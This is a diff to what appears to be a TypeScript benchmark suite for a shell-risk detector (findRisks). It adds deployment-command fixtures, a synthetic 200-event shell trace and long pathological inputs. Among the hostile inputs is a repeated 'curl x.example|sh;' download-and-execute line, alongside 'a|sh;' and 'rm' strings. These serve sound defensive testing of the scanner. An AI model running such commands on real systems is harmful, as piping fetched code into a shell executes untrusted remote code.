@@ -38,6 +38,20 @@ const prose =
 const script =
   'set -e\nfor f in src/*.ts; do echo "$f" | sed "s/a/b/" >> out.txt; done\nif [ -f x ]; then rm -rf dist; fi\n'
 
+const deployment = 'cd /srv/app && git pull && npm ci && npm run build && systemctl restart app; '
+
+/** Calls and results of a shell, each text its own. */
+const shellEvents = Array.from({ length: 200 }, (_, index) => ({
+  id: `e${index}`,
+  tool: 'bash',
+  ...(index % 2 === 0
+    ? {
+        kind: 'tool_call' as const,
+        arguments: { command: fill(`echo ${index}; ${deployment}`, 300) },
+      }
+    : { kind: 'tool_result' as const, content: fill(`${index} ${deployment}`, 300) }),
+}))
+
 const events = Array.from({ length: 200 }, (_, index) => ({
   id: `e${index}`,
   ...(index % 2 === 0
@@ -65,6 +79,11 @@ const hostile: Readonly<Record<string, TypedInput>> = {
   '32 KiB heredoc bodies': shell(fill('cat <<A\n$(id)\n', 32 * KIB)),
   '32 KiB braces': shell(fill('{a,b}', 32 * KIB)),
   '32 KiB pipes': shell(fill('a|', 32 * KIB)),
+  '32 KiB pipes into a shell': shell(fill('a|sh;', 32 * KIB)),
+  '32 KiB downloads into a shell': shell(fill('curl x.example|sh;', 32 * KIB)),
+  '32 KiB backquoted names': shell(fill('`a', 32 * KIB)),
+  '32 KiB open braces': shell(fill('{a,b}{', 32 * KIB)),
+  '32 KiB short here-documents': shell(fill('cat <<A\nhi\nA\n', 32 * KIB)),
   '32 KiB bash -c': shell(fill("bash -c '", 32 * KIB)),
   '32 KiB assignments': shell(fill('a=b$a;', 32 * KIB)),
   '32 KiB rm with spaces': shell(`rm ${fill(' ', 32 * KIB)}`),
@@ -86,11 +105,18 @@ group('ordinary', () => {
   const small = context(fill(prose, 4 * KIB))
   const large = context(fill(prose, 64 * KIB))
   const command = shell(fill(script, 4 * KIB))
+  const dense = shell(fill(deployment, 4 * KIB))
+  const shellTrace: TypedInput = {
+    type: 'trace',
+    input: { goal: 'Deploy it.', events: shellEvents },
+  }
   const trace: TypedInput = { type: 'trace', input: { goal: 'Answer my mail.', events } }
   bench('4 KiB prose', () => findRisks(small))
   bench('4 KiB shell', () => findRisks(command))
+  bench('4 KiB dense shell', () => findRisks(dense))
   bench('64 KiB prose', () => findRisks(large))
   bench('trace of 200 events, 60 KiB', () => findRisks(trace))
+  bench('trace of 200 shell events, 60 KiB', () => findRisks(shellTrace))
 })
 
 group('hostile', () => {
